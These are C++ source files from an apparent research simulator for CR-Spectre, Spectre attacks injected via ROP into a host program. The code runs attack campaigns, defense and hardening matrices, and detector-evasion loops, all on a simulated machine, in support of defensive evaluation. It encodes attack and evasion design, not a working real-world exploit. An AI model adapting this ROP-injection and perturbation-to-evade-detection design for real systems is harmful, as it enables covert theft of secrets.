    std::size_t victim = 0;
    for (std::size_t i = 1; i < cache.size(); ++i) {
      if (cache[i].last_use < cache[victim].last_use) victim = i;
    }
    cache.erase(cache.begin() + static_cast<std::ptrdiff_t>(victim));
  }
  cache.push_back(
      Entry{key, tick, std::make_unique<ScenarioSession>(config)});
  return *cache.back().session;
}

void warm_scenario_memo(const ScenarioConfig& config) {
  if (!fast_reset_enabled()) return;
  // Constructing a session builds the host/plan/attack artifacts through
  // the memo caches as a side effect; the throwaway machine is the price of
  // keeping exactly one build path.
  ScenarioSession warm(config);
}

ScenarioMemoStats scenario_memo_stats() {
  ScenarioMemoStats out;
  out.workload_hits = workload_cache().hits();
  out.workload_misses = workload_cache().misses();
  out.attack_hits = attack_cache().hits();
  out.attack_misses = attack_cache().misses();
  out.plan_hits = plan_cache().hits();
  out.plan_misses = plan_cache().misses();
  return out;
}

}  // namespace crs::core
