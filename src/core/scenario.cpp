#include "core/scenario.hpp"

#include "rop/plan.hpp"
#include "support/error.hpp"
#include "support/rng.hpp"

namespace crs::core {

namespace {

constexpr const char* kHostPath = "/bin/host";
constexpr const char* kAttackPath = "/bin/cr_spectre";

}  // namespace

attack::AttackConfig make_attack_config(const ScenarioConfig& config,
                                        std::uint64_t secret_address) {
  attack::AttackConfig acfg;
  acfg.variant = config.variant;
  acfg.secret_length = static_cast<std::uint32_t>(config.secret.size());
  if (config.rop_injected) {
    acfg.target_secret_address = secret_address;
  } else {
    acfg.embed_secret = config.secret;
  }
  if (config.variant == attack::SpectreVariant::kStride) {
    acfg.probe_stride = 192;
  }
  acfg.perturb = config.perturb;
  acfg.perturb_params = config.perturb_params;
  return acfg;
}

ScenarioRun run_scenario(const ScenarioConfig& config) {
  CRS_ENSURE(!config.secret.empty(), "scenario needs a secret");
  Rng rng(config.seed);

  // Per-attempt jitter: work amount and sampling phase vary between runs,
  // like back-to-back measurements on real hardware.
  workloads::WorkloadOptions wopt;
  wopt.scale = config.host_scale +
               rng.next_below(std::max<std::uint64_t>(config.host_scale / 8, 1));
  wopt.canary = config.canary;
  wopt.secret = config.secret;

  hid::ProfilerConfig prof = config.profiler;
  prof.window_cycles +=
      rng.next_below(std::max<std::uint64_t>(prof.window_cycles / 10, 1));
  prof.noise_seed = rng.next_u64();

  ScenarioRun out;

  if (!config.rop_injected) {
    // Standalone ("traditional") Spectre: the attack binary runs directly.
    const auto acfg = make_attack_config(config, 0);
    sim::MachineConfig mcfg;
    sim::KernelConfig kcfg;
    kcfg.seed = config.seed ^ 0xABCD;
    config.mitigations.apply(mcfg, kcfg);
    sim::Machine machine(mcfg);
    sim::Kernel kernel(machine, kcfg);
    const mitigate::Armed armed = mitigate::arm(kernel, config.mitigations);
    kernel.register_binary(kAttackPath, attack::build_attack_binary(acfg));
    out.profile = hid::profile_run_strings(kernel, kAttackPath,
                                           {"cr_spectre"}, prof);
    out.attack_windows = out.profile.windows;  // the whole run is attack
    out.attack_launched = true;
    out.recovered = out.profile.output;
    out.secret_recovered = out.recovered == config.secret;
    out.host_ipc = 0.0;
    out.mitigation = mitigate::summarize(machine, kernel, armed);
    return out;
  }

  // --- CR-Spectre: ROP-injected into the host ---
  const sim::Program host = workloads::build_workload(config.host, wopt);
  const auto acfg = make_attack_config(config, host.symbol("host_secret"));
  const sim::Program attack_bin = attack::build_attack_binary(acfg);

  // Adversary offline phase (gadgets + recon + payload), against the
  // no-ASLR layout the attacker assumes.
  rop::ReconSpec rspec;
  rspec.path = kHostPath;
  rspec.benign_args = {config.host, "recon-benign-input"};
  const rop::InjectionPlan plan =
      rop::plan_injection(host, rspec, kAttackPath);

  sim::MachineConfig mcfg;
  sim::KernelConfig kcfg;
  kcfg.aslr = config.aslr;
  kcfg.seed = config.seed ^ 0x5A5A;
  config.mitigations.apply(mcfg, kcfg);
  sim::Machine machine(mcfg);
  sim::Kernel kernel(machine, kcfg);
  const mitigate::Armed armed = mitigate::arm(kernel, config.mitigations);
  kernel.register_binary(kHostPath, host);
  kernel.register_binary(kAttackPath, attack_bin);

  std::vector<std::vector<std::uint8_t>> args;
  args.emplace_back(config.host.begin(), config.host.end());
  args.push_back(plan.payload.bytes);
  out.profile = hid::profile_run(kernel, kHostPath, args, prof);

  for (const auto& w : out.profile.windows) {
    (w.injected ? out.attack_windows : out.host_windows).push_back(w);
  }
  out.attack_launched = kernel.execve_count() > 0;
  out.recovered = out.profile.output;
  out.secret_recovered = out.recovered == config.secret;

  // IPC from the noiseless deltas: Table I's ~1% contrasts would otherwise
  // drown in measurement noise.
  std::uint64_t host_instr = 0, host_cycles = 0;
  for (const auto& w : out.host_windows) {
    host_instr +=
        w.true_delta[static_cast<std::size_t>(sim::Event::kInstructions)];
    host_cycles += w.true_delta[static_cast<std::size_t>(sim::Event::kCycles)];
  }
  out.host_ipc = host_cycles == 0
                     ? 0.0
                     : static_cast<double>(host_instr) /
                           static_cast<double>(host_cycles);
  out.mitigation = mitigate::summarize(machine, kernel, armed);
  return out;
}

}  // namespace crs::core
