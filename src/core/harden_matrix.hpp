// The hardening-vs-attack sweep (crs_matrix --harden-sweep).
//
// Sweeps {classic stack overflow, speculative-probe-parameterized ROP,
// Spectre 1.1 store overflow} × {hardening presets} and reports, per cell:
// leak-success rate, how many attempts actually reached their payload
// (`launches` — the canary column drives this to zero for the classic
// overflow), how many leak-stage probes recovered the image base, and the
// hardening layers' own engagement counters. Per preset it also measures
// the IPC overhead the hardening costs a clean host. This is the paper's
// defense-awareness thesis extended to memory-safety hardening: the classic
// injection dies under canary/ASLR while the speculative attacks keep a
// nonzero leak rate against the full preset.
//
// Determinism: identical discipline to run_defense_matrix — per-attack
// session seeds, per-attempt seeds derived from the flat (attack × preset ×
// attempt) item index, index-ordered fold — so the CSV is byte-identical
// for any CRS_THREADS, snapshot on/off, and either exec engine.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "core/scenario.hpp"
#include "harden/config.hpp"

namespace crs::core {

/// One attack row of the harden sweep. The scenario's `harden` field is
/// overwritten per column.
struct HardenAttackSpec {
  std::string name;  ///< e.g. "stack-overflow", "spec-probe-rop"
  ScenarioConfig scenario;
};

struct HardenMatrixConfig {
  /// Attempts per (attack, preset) cell; leak rates average them.
  int attempts = 4;
  std::uint64_t seed = 29;
  /// Host work scale for the injected rows and the overhead probes.
  std::uint64_t host_scale = 8000;
  std::string secret = "CRSPECTRE-SECRET";
  /// Presets to sweep; empty = every named harden preset in display order.
  std::vector<std::string> presets;
  /// Repeats for the per-preset IPC-overhead probe.
  int overhead_repeats = 2;
  /// Quick mode: fewer attempts, for the CI smoke job.
  bool quick = false;

  int effective_attempts() const { return quick ? 2 : attempts; }
  int effective_overhead_repeats() const { return quick ? 1 : overhead_repeats; }
};

/// One (attack, preset) cell, summed/averaged over the configured attempts.
struct HardenCell {
  std::string attack;
  std::string preset;
  int attempts = 0;
  int leaks = 0;  ///< attempts that recovered the secret
  double leak_rate = 0.0;
  /// Attempts whose payload actually ran (execve fired / standalone ran).
  /// The canary and aslr columns drive this to zero for the classic
  /// overflow; the leak stage restores it.
  int launches = 0;
  /// Leak-stage probe passes that recovered the victim image base.
  int base_leaks = 0;
  /// Total hardening engagement across the cell's attempts (0 only for the
  /// none column).
  std::uint64_t harden_events = 0;
  /// Per-counter breakdown behind harden_events, summed over attempts.
  harden::HardenSummary summary;
};

struct HardenMatrixResult {
  std::vector<std::string> presets;  ///< column order
  std::vector<std::string> attacks;  ///< row order
  std::vector<HardenCell> cells;     ///< row-major (attack × preset)
  /// Per-preset clean-host IPC overhead (percent), aligned with `presets`.
  std::vector<double> ipc_overhead_pct;

  const HardenCell& cell(const std::string& attack,
                         const std::string& preset) const;

  /// Hardening activity of one preset summed over every attack row — the
  /// `--metrics` view.
  harden::HardenSummary preset_summary(const std::string& preset) const;
};

/// The default attack rows: the classic canary-unaware stack overflow, the
/// probe-parameterized ROP injection (leak stage on), and the standalone
/// Spectre 1.1 speculative store overflow.
std::vector<HardenAttackSpec> default_harden_attacks(
    const HardenMatrixConfig& config);

HardenMatrixResult run_harden_matrix(const HardenMatrixConfig& config);

/// CSV: header row `attack,preset,attempts,launches,leaks,leak_rate,
/// base_leaks,harden_events,ipc_overhead_pct`, one line per cell.
std::string harden_matrix_csv(const HardenMatrixResult& result);

/// Per-preset hardening-counter CSV: `preset,metric,value`, one line per
/// (preset, counter) plus a total. Ground-truth counters, not obs-gated.
std::string harden_matrix_metrics_csv(const HardenMatrixResult& result);

}  // namespace crs::core
