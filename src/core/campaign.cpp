#include "core/campaign.hpp"

#include <algorithm>

#include "hid/features.hpp"
#include "support/error.hpp"

namespace crs::core {

double CampaignResult::mean_detection() const {
  if (attempts.empty()) return 0.0;
  double s = 0.0;
  for (const auto& a : attempts) s += a.detection_rate;
  return s / static_cast<double>(attempts.size());
}

double CampaignResult::min_detection() const {
  double m = 1.0;
  for (const auto& a : attempts) m = std::min(m, a.detection_rate);
  return attempts.empty() ? 0.0 : m;
}

double CampaignResult::max_detection() const {
  double m = 0.0;
  for (const auto& a : attempts) m = std::max(m, a.detection_rate);
  return m;
}

double CampaignResult::evasion_fraction() const {
  if (attempts.empty()) return 0.0;
  std::size_t n = 0;
  for (const auto& a : attempts) n += a.evaded ? 1 : 0;
  return static_cast<double>(n) / static_cast<double>(attempts.size());
}

CampaignResult run_campaign(const CampaignConfig& config,
                            const ml::Dataset& benign_train,
                            const ml::Dataset& attack_train,
                            const ml::Dataset* benign_holdout) {
  CRS_ENSURE(config.attempts > 0, "campaign needs at least one attempt");

  hid::HidDetector detector(config.detector);
  ml::Dataset initial = benign_train;
  initial.append_all(attack_train);
  detector.fit(initial);

  perturb::VariantMutator mutator(config.scenario.perturb_params,
                                  config.seed ^ 0x77);

  CampaignResult result;
  for (int attempt = 1; attempt <= config.attempts; ++attempt) {
    ScenarioConfig scenario = config.scenario;
    scenario.seed = config.seed * 7919 + static_cast<std::uint64_t>(attempt);
    scenario.perturb_params = mutator.current();

    const ScenarioRun run = run_scenario(scenario);

    AttemptRecord record;
    record.attempt = attempt;
    record.params = mutator.current();
    record.secret_recovered = run.secret_recovered;
    record.host_ipc = run.host_ipc;
    record.attack_window_count = run.attack_windows.size();
    record.detection_rate = detector.detection_rate(run.attack_windows);
    record.detected = record.detection_rate >= config.detect_threshold;
    record.evaded = record.detection_rate <= config.evade_threshold;
    if (benign_holdout != nullptr && benign_holdout->size() > 0) {
      const auto cm = detector.evaluate(*benign_holdout);
      record.benign_fpr = cm.fp + cm.tn == 0
                              ? 0.0
                              : static_cast<double>(cm.fp) /
                                    static_cast<double>(cm.fp + cm.tn);
    }

    if (config.online_hid && !run.attack_windows.empty()) {
      // Paper §II-E: the online HID retrains on newly profiled traces of
      // both classes — the attempt's attack-active windows (labelled by
      // the testbed's ground truth) and the host's own benign windows.
      ml::Dataset fresh = hid::windows_to_dataset(run.attack_windows, 1);
      fresh.append_all(hid::windows_to_dataset(run.host_windows, 0));
      detector.augment_and_refit(fresh);
    }
    if (config.dynamic_perturbation && record.detected) {
      mutator.next();
      record.mutated_after = true;
    }
    result.attempts.push_back(record);
  }
  return result;
}

}  // namespace crs::core
