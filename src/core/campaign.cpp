#include "core/campaign.hpp"

#include <algorithm>
#include <chrono>

#include "hid/features.hpp"
#include "obs/metrics.hpp"
#include "obs/trace.hpp"
#include "support/error.hpp"
#include "support/memo.hpp"
#include "support/parallel.hpp"

namespace crs::core {

namespace {

// Serial, main-thread-only summary emission: campaign-level trace events go
// to the dedicated summary lane (never colliding with in-run lanes) with a
// synthetic timeline of accumulated sim cycles, and the registry gets the
// attempt tallies. Wall time deliberately never enters either sink.
void record_attempt_observability(const AttemptRecord& record,
                                  std::uint64_t& acc_cycles) {
  if constexpr (!obs::kEnabled) return;
  if (obs::tracing_enabled()) {
    obs::LaneScope lane(obs::kSummaryLaneBase);
    obs::ScopedSpan span("core.campaign.attempt", acc_cycles);
    acc_cycles += record.sim_cycles;
    span.close(acc_cycles);
    obs::trace_counter("core.campaign.detection_rate", acc_cycles,
                       record.detection_rate);
    if (record.benign_fpr >= 0.0) {
      obs::trace_counter("core.campaign.benign_fpr", acc_cycles,
                         record.benign_fpr);
    }
    if (record.mutated_after) {
      obs::trace_instant("core.campaign.mutation", acc_cycles,
                         static_cast<double>(record.attempt));
    }
  } else {
    acc_cycles += record.sim_cycles;
  }

  auto& reg = obs::MetricsRegistry::instance();
  reg.counter("core.campaign.attempts").add(1);
  reg.counter("core.campaign.sim_cycles").add(record.sim_cycles);
  if (record.detected) reg.counter("core.campaign.detected").add(1);
  if (record.evaded) reg.counter("core.campaign.evaded").add(1);
  if (record.mutated_after) reg.counter("core.campaign.mutations").add(1);
  if (record.secret_recovered) {
    reg.counter("core.campaign.secrets_recovered").add(1);
  }
  static constexpr double kRateBounds[] = {0.1, 0.2, 0.3, 0.4, 0.5,
                                           0.6, 0.7, 0.8, 0.9, 1.0};
  reg.histogram("core.campaign.detection_rate",
                std::span<const double>(kRateBounds))
      .observe(record.detection_rate);
  reg.gauge("core.campaign.last_attempt")
      .set(static_cast<double>(record.attempt));
  reg.gauge("core.campaign.last_detection_rate").set(record.detection_rate);
}

}  // namespace

double CampaignResult::mean_detection() const {
  if (attempts.empty()) return 0.0;
  double s = 0.0;
  for (const auto& a : attempts) s += a.detection_rate;
  return s / static_cast<double>(attempts.size());
}

double CampaignResult::min_detection() const {
  double m = 1.0;
  for (const auto& a : attempts) m = std::min(m, a.detection_rate);
  return attempts.empty() ? 0.0 : m;
}

double CampaignResult::max_detection() const {
  double m = 0.0;
  for (const auto& a : attempts) m = std::max(m, a.detection_rate);
  return m;
}

double CampaignResult::evasion_fraction() const {
  if (attempts.empty()) return 0.0;
  std::size_t n = 0;
  for (const auto& a : attempts) n += a.evaded ? 1 : 0;
  return static_cast<double>(n) / static_cast<double>(attempts.size());
}

CampaignResult run_campaign(const CampaignConfig& config,
                            const ml::Dataset& benign_train,
                            const ml::Dataset& attack_train,
                            const ml::Dataset* benign_holdout) {
  CRS_ENSURE(config.attempts > 0, "campaign needs at least one attempt");

  hid::HidDetector detector(config.detector);
  ml::Dataset initial = benign_train;
  initial.append_all(attack_train);
  detector.fit(initial);

  perturb::VariantMutator mutator(config.scenario.perturb_params,
                                  config.seed ^ 0x77);

  // All attempts of this campaign run through one session config: the
  // session pins the host-scale draw to the campaign seed; per-attempt
  // jitter (window phase, noise, kernel RNG) still varies with the attempt
  // seed. The fast-reset switch only changes the cost model — with it on,
  // worker threads share cached sessions (setup paid once, machine rolled
  // back per attempt); with it off (--snapshot=off) every attempt rebuilds
  // the world from scratch. Results are byte-identical either way
  // (tests/test_snapshot.cpp holds the proof).
  const bool fast = fast_reset_enabled();
  ScenarioConfig session_cfg = config.scenario;
  session_cfg.seed = config.seed;

  // One attempt: run the scenario and score it against `detector`. The
  // detector's predict/evaluate paths are const and pure, so concurrent
  // attempts may share it read-only.
  const auto run_attempt = [&](int attempt,
                               const perturb::PerturbParams& params,
                               ScenarioRun* run_out) {
    const std::uint64_t attempt_seed =
        config.seed * 7919 + static_cast<std::uint64_t>(attempt);

    const auto wall_start = std::chrono::steady_clock::now();
    ScenarioRun run;
    if (fast) {
      run = thread_session(session_cfg).run_attempt(attempt_seed, params);
    } else {
      ScenarioSession session(session_cfg);
      run = session.run_attempt(attempt_seed, params);
    }
    const auto wall_end = std::chrono::steady_clock::now();

    AttemptRecord record;
    record.attempt = attempt;
    record.params = params;
    record.sim_cycles = run.profile.cycles;
    record.wall_ms = std::chrono::duration<double, std::milli>(
                         wall_end - wall_start)
                         .count();
    record.secret_recovered = run.secret_recovered;
    record.host_ipc = run.host_ipc;
    record.attack_window_count = run.attack_windows.size();
    record.detection_rate = detector.detection_rate(run.attack_windows);
    record.detected = record.detection_rate >= config.detect_threshold;
    record.evaded = record.detection_rate <= config.evade_threshold;
    if (benign_holdout != nullptr && benign_holdout->size() > 0) {
      const auto cm = detector.evaluate(*benign_holdout);
      record.benign_fpr = cm.fp + cm.tn == 0
                              ? 0.0
                              : static_cast<double>(cm.fp) /
                                    static_cast<double>(cm.fp + cm.tn);
    }
    if (run_out != nullptr) *run_out = std::move(run);
    return record;
  };

  CampaignResult result;
  if (!config.online_hid && !config.dynamic_perturbation) {
    // Offline campaign: the detector never refits and the mutator never
    // advances, so attempts are independent — run them on the pool. Each
    // attempt derives everything from its index (the seed formula matches
    // the serial loop) and records land in index order: the result is
    // bit-identical to the serial path for any thread count.
    //
    // Warm the build-artifact memo caches on the main thread first, so the
    // workload/plan/attack builds — and any trace events they emit — happen
    // deterministically before workers race, and no worker duplicates them.
    if (fast) warm_scenario_memo(session_cfg);
    ThreadPool pool;
    result.attempts = parallel_map<AttemptRecord>(
        pool, static_cast<std::size_t>(config.attempts), [&](std::size_t i) {
          return run_attempt(static_cast<int>(i) + 1, mutator.current(),
                             nullptr);
        });
    // Summary emission happens after the index-ordered collection, on the
    // calling thread, so it is identical to the serial campaign's.
    std::uint64_t acc_cycles = 0;
    std::size_t kept = result.attempts.size();
    for (std::size_t i = 0; i < result.attempts.size(); ++i) {
      record_attempt_observability(result.attempts[i], acc_cycles);
      if (config.on_attempt && !config.on_attempt(result.attempts[i])) {
        kept = i + 1;  // cancelled: drop the not-yet-reported tail
        break;
      }
    }
    result.attempts.resize(kept);
    return result;
  }

  // Online / dynamic campaign: attempt k's detector (and possibly mutator)
  // state depends on attempt k-1's outcome — inherently serial.
  std::uint64_t acc_cycles = 0;
  for (int attempt = 1; attempt <= config.attempts; ++attempt) {
    ScenarioRun run;
    AttemptRecord record = run_attempt(attempt, mutator.current(), &run);

    if (config.online_hid && !run.attack_windows.empty()) {
      // Paper §II-E: the online HID retrains on newly profiled traces of
      // both classes — the attempt's attack-active windows (labelled by
      // the testbed's ground truth) and the host's own benign windows.
      ml::Dataset fresh = hid::windows_to_dataset(run.attack_windows, 1);
      fresh.append_all(hid::windows_to_dataset(run.host_windows, 0));
      detector.augment_and_refit(fresh);
    }
    if (config.dynamic_perturbation && record.detected) {
      mutator.next();
      record.mutated_after = true;
    }
    record_attempt_observability(record, acc_cycles);
    result.attempts.push_back(record);
    if (config.on_attempt && !config.on_attempt(result.attempts.back())) {
      break;  // cancelled mid-campaign
    }
  }
  return result;
}

}  // namespace crs::core
