#include "core/defense_matrix.hpp"

#include <sstream>

#include "core/corpus.hpp"
#include "core/overhead.hpp"
#include "support/error.hpp"
#include "support/memo.hpp"
#include "support/parallel.hpp"

namespace crs::core {

namespace {

/// One attempt's contribution to a cell, collected by flat index so the
/// fold is thread-count-invariant.
struct AttemptOutcome {
  bool leaked = false;
  double detection = 0.0;
  mitigate::MitigationSummary mitigation;
};

std::string format_double(double v) {
  std::ostringstream os;
  os.precision(4);
  os << std::fixed << v;
  return os.str();
}

}  // namespace

const MatrixCell& DefenseMatrixResult::cell(const std::string& attack,
                                            const std::string& preset) const {
  for (const auto& c : cells) {
    if (c.attack == attack && c.preset == preset) return c;
  }
  throw Error("no matrix cell for attack '" + attack + "' preset '" + preset +
              "'");
}

mitigate::MitigationSummary DefenseMatrixResult::preset_summary(
    const std::string& preset) const {
  mitigate::MitigationSummary out;
  bool found = false;
  for (const auto& c : cells) {
    if (c.preset != preset) continue;
    mitigate::accumulate(out, c.summary);
    found = true;
  }
  if (!found) throw Error("no matrix column for preset '" + preset + "'");
  return out;
}

std::vector<AttackSpec> default_attacks(const DefenseMatrixConfig& config) {
  std::vector<AttackSpec> attacks;

  // Plain (standalone) Spectre, the paper's "traditional" baseline: one
  // PHT-trained bounds-check bypass, one RSB return-misdirection.
  {
    AttackSpec a;
    a.name = "spectre-pht";
    a.scenario.variant = attack::SpectreVariant::kPht;
    a.scenario.rop_injected = false;
    a.scenario.secret = config.secret;
    attacks.push_back(a);
  }
  {
    AttackSpec a;
    a.name = "spectre-rsb";
    a.scenario.variant = attack::SpectreVariant::kRsb;
    a.scenario.rop_injected = false;
    a.scenario.secret = config.secret;
    attacks.push_back(a);
  }
  // CR-Spectre: ROP-injected into the whitelisted host, with the offline
  // attacker's static perturbation variant (cf. Fig. 5b).
  {
    AttackSpec a;
    a.name = "cr-spectre";
    a.scenario.variant = attack::SpectreVariant::kPht;
    a.scenario.rop_injected = true;
    a.scenario.host_scale = config.host_scale;
    a.scenario.secret = config.secret;
    a.scenario.perturb = true;
    a.scenario.perturb_params.delay = 500;
    a.scenario.perturb_params.loop_count = 16;
    a.scenario.perturb_params.style = perturb::MimicStyle::kBranchy;
    attacks.push_back(a);
  }
  return attacks;
}

DefenseMatrixResult run_defense_matrix(const DefenseMatrixConfig& config) {
  return run_defense_matrix(config, {});
}

DefenseMatrixResult run_defense_matrix(
    const DefenseMatrixConfig& config,
    const std::vector<AttackSpec>& extra_attacks) {
  DefenseMatrixResult result;
  result.presets =
      config.presets.empty() ? mitigate::preset_names() : config.presets;
  // Validate up front (throws with the preset listing on a typo).
  std::vector<mitigate::MitigationConfig> preset_configs;
  preset_configs.reserve(result.presets.size());
  for (const auto& name : result.presets) {
    preset_configs.push_back(mitigate::preset(name));
  }

  std::vector<AttackSpec> attacks = default_attacks(config);
  attacks.insert(attacks.end(), extra_attacks.begin(), extra_attacks.end());
  for (const auto& a : attacks) result.attacks.push_back(a.name);

  // The defender trains ONCE, on unmitigated traces: the matrix asks how a
  // fixed deployed detector fares as the hardware/kernel defenses vary, so
  // every cell faces the same model.
  CorpusConfig ccfg;
  ccfg.windows_per_class = config.effective_corpus_windows();
  ccfg.secret = config.secret;
  ccfg.seed = config.seed ^ 0xC0;
  const ml::Dataset benign = build_benign_corpus(ccfg);
  const ml::Dataset attack_set = build_attack_corpus(ccfg);
  hid::DetectorConfig dcfg;
  dcfg.seed = config.seed ^ 0xD1;
  hid::HidDetector detector(dcfg);
  ml::Dataset train = benign;
  train.append_all(attack_set);
  detector.fit(train);

  const int attempts = config.effective_attempts();
  CRS_ENSURE(attempts > 0, "defense matrix needs at least one attempt");
  const std::size_t n_cells = attacks.size() * result.presets.size();
  const std::size_t n_items = n_cells * static_cast<std::size_t>(attempts);

  // Every cell owns one session. The session seed is derived per ATTACK —
  // not per cell — so every preset of an attack shares the same host scale,
  // and therefore the same memoized workload build and ROP plan (the
  // mitigations only change the machine/kernel, never the binaries). The
  // fast-reset switch only decides whether attempts roll the machine back
  // from a snapshot or rebuild it — the drawn randomness is identical, so
  // --snapshot=off produces the same matrix. Warming the memos on the main
  // thread keeps the builds off the workers entirely (a no-op when fast
  // reset is disabled).
  for (std::size_t attack_i = 0; attack_i < attacks.size(); ++attack_i) {
    ScenarioConfig warm = attacks[attack_i].scenario;
    warm.seed = derive_seed(config.seed ^ 0xCE11, attack_i);
    warm_scenario_memo(warm);
  }

  ThreadPool pool;
  // Fan out over cells; each cell runs its attempts serially against its
  // own session (pool items scatter across threads, so per-attempt fan-out
  // would rebuild a session per attempt — the opposite of a fast reset).
  // Every attempt still derives its seed from its flat (attack × preset ×
  // attempt) item index alone, and the fold below walks items in index
  // order, so the matrix is identical for any thread count.
  const std::vector<std::vector<AttemptOutcome>> cell_outcomes =
      parallel_map<std::vector<AttemptOutcome>>(
          pool, n_cells, [&](std::size_t cell) {
            const std::size_t attack_i = cell / result.presets.size();
            const std::size_t preset_i = cell % result.presets.size();

            ScenarioConfig scenario = attacks[attack_i].scenario;
            scenario.mitigations = preset_configs[preset_i];
            scenario.seed = derive_seed(config.seed ^ 0xCE11, attack_i);
            ScenarioSession session(scenario);

            std::vector<AttemptOutcome> outs;
            outs.reserve(static_cast<std::size_t>(attempts));
            for (int a = 0; a < attempts; ++a) {
              const std::size_t item =
                  cell * static_cast<std::size_t>(attempts) +
                  static_cast<std::size_t>(a);
              const ScenarioRun run =
                  session.run_attempt(derive_seed(config.seed, item));
              AttemptOutcome out;
              out.leaked = run.secret_recovered;
              out.detection = detector.detection_rate(run.attack_windows);
              out.mitigation = run.mitigation;
              outs.push_back(out);
            }
            return outs;
          });
  std::vector<AttemptOutcome> outcomes;
  outcomes.reserve(n_items);
  for (const auto& cell : cell_outcomes) {
    outcomes.insert(outcomes.end(), cell.begin(), cell.end());
  }

  result.cells.resize(n_cells);
  for (std::size_t item = 0; item < outcomes.size(); ++item) {
    const std::size_t cell = item / static_cast<std::size_t>(attempts);
    MatrixCell& c = result.cells[cell];
    if (c.attempts == 0) {
      c.attack = result.attacks[cell / result.presets.size()];
      c.preset = result.presets[cell % result.presets.size()];
    }
    ++c.attempts;
    if (outcomes[item].leaked) ++c.leaks;
    c.hid_detection += outcomes[item].detection;
    mitigate::accumulate(c.summary, outcomes[item].mitigation);
    c.mitigation_events += outcomes[item].mitigation.total_events();
  }
  for (MatrixCell& c : result.cells) {
    c.leak_rate = static_cast<double>(c.leaks) / c.attempts;
    c.hid_detection /= c.attempts;
  }

  // Cost column: what each preset does to a clean, non-attacked host.
  OverheadConfig ocfg;
  ocfg.repeats = config.effective_overhead_repeats();
  ocfg.secret = config.secret;
  result.ipc_overhead_pct = parallel_map<double>(
      pool, result.presets.size(), [&](std::size_t i) {
        // Per-worker copy: writing the shared ocfg's seed from every worker
        // would race, and could hand preset i another preset's seed.
        OverheadConfig local = ocfg;
        local.seed = derive_seed(config.seed ^ 0x0E4, i);
        return mitigation_overhead_pct("basicmath", config.host_scale,
                                       preset_configs[i], local);
      });

  return result;
}

std::string matrix_csv(const DefenseMatrixResult& result) {
  std::ostringstream os;
  os << "attack,preset,attempts,leaks,leak_rate,hid_detection,"
        "mitigation_events,ipc_overhead_pct\n";
  for (const auto& c : result.cells) {
    std::size_t preset_i = 0;
    while (result.presets[preset_i] != c.preset) ++preset_i;
    os << c.attack << ',' << c.preset << ',' << c.attempts << ',' << c.leaks
       << ',' << format_double(c.leak_rate) << ','
       << format_double(c.hid_detection) << ',' << c.mitigation_events << ','
       << format_double(result.ipc_overhead_pct[preset_i]) << '\n';
  }
  return os.str();
}

std::string matrix_json(const DefenseMatrixResult& result) {
  std::ostringstream os;
  os << "{\n  \"presets\": [";
  for (std::size_t i = 0; i < result.presets.size(); ++i) {
    os << (i ? ", " : "") << '"' << result.presets[i] << '"';
  }
  os << "],\n  \"attacks\": [";
  for (std::size_t i = 0; i < result.attacks.size(); ++i) {
    os << (i ? ", " : "") << '"' << result.attacks[i] << '"';
  }
  os << "],\n  \"ipc_overhead_pct\": [";
  for (std::size_t i = 0; i < result.ipc_overhead_pct.size(); ++i) {
    os << (i ? ", " : "") << format_double(result.ipc_overhead_pct[i]);
  }
  os << "],\n  \"cells\": [\n";
  for (std::size_t i = 0; i < result.cells.size(); ++i) {
    const auto& c = result.cells[i];
    os << "    {\"attack\": \"" << c.attack << "\", \"preset\": \"" << c.preset
       << "\", \"attempts\": " << c.attempts << ", \"leaks\": " << c.leaks
       << ", \"leak_rate\": " << format_double(c.leak_rate)
       << ", \"hid_detection\": " << format_double(c.hid_detection)
       << ", \"mitigation_events\": " << c.mitigation_events << '}'
       << (i + 1 < result.cells.size() ? "," : "") << '\n';
  }
  os << "  ]\n}\n";
  return os.str();
}

std::string matrix_metrics_csv(const DefenseMatrixResult& result) {
  std::ostringstream os;
  os << "preset,metric,value\n";
  for (const auto& preset : result.presets) {
    const mitigate::MitigationSummary sum = result.preset_summary(preset);
    for (const mitigate::SummaryField& f : mitigate::summary_fields()) {
      os << preset << ',' << f.name << ',' << sum.*(f.member) << '\n';
    }
    os << preset << ",total," << sum.total_events() << '\n';
  }
  return os.str();
}

}  // namespace crs::core
