// The request/response job abstraction over the batch entry points.
//
// Every driver so far (crsim, crs_matrix, crs_fuzz, the figure benches) is
// a batch CLI that links the library and calls run_scenario / run_campaign
// / run_defense_matrix directly. The campaign service (src/serve) needs the
// same work behind a wire boundary, which requires three things this module
// provides:
//
//   * a self-contained, text-serializable JobSpec covering the scenario,
//     campaign, defense-matrix and raw-program entry points (parse is
//     strict: any unknown key, bad enum or truncated section throws
//     crs::Error, so garbage off the wire can never half-configure a job);
//   * run_job: one function executing any JobSpec and returning a payload
//     that is BYTE-IDENTICAL to what the corresponding batch path emits for
//     the same config + seed (matrix payload == matrix_csv == the bytes
//     `crs_matrix --csv` writes; campaign payload == campaign_to_csv;
//     scenario/program payloads are canonicalized here and shared by
//     `crs_serve --oneshot`, the batch twin of the served path). Progress
//     (attempt counters, leak count so far) streams through a callback
//     whose return value implements cooperative cancellation;
//   * job_affinity_key: the cache-affinity routing hash — jobs whose
//     simulated machines share a configuration (hash_machine_config) and
//     build artifacts land on the same worker shard, where the per-thread
//     session cache / machine pool already holds a warm snapshot.
#pragma once

#include <cstdint>
#include <functional>
#include <string>

#include "core/campaign.hpp"
#include "core/defense_matrix.hpp"
#include "core/scenario.hpp"

namespace crs::core {

enum class JobKind { kScenario, kCampaign, kMatrix, kProgram };

std::string job_kind_name(JobKind kind);

/// Scenario job: `attempts` session attempts of one ScenarioConfig.
/// Attempt i runs with seed `config.seed + i`, so attempt 0 of any scenario
/// job is bit-identical to run_scenario(config).
struct ScenarioJob {
  ScenarioConfig config;
  int attempts = 1;
};

/// Campaign job: run_campaign over corpora built deterministically from the
/// spec (the same construction the figure benches use).
struct CampaignJob {
  CampaignConfig config;
  std::size_t corpus_windows = 60;
  std::uint64_t corpus_seed = 99;
};

struct MatrixJob {
  DefenseMatrixConfig config;
};

/// Raw-program job: assemble `source` (runtime library appended) and run it
/// on a default machine — the wire-protocol twin of one differential-fuzz
/// execution, used by `crs_fuzz --fuzz-serve`.
struct ProgramJob {
  std::string source;
  bool writable_text = false;  ///< lift DEP for self-modifying programs
  std::uint64_t max_instructions = 2'000'000;
};

struct JobSpec {
  JobKind kind = JobKind::kScenario;
  /// Client-assigned id echoed in every response frame (not part of the
  /// work: two specs differing only in id produce identical payloads).
  std::uint64_t id = 0;
  ScenarioJob scenario;
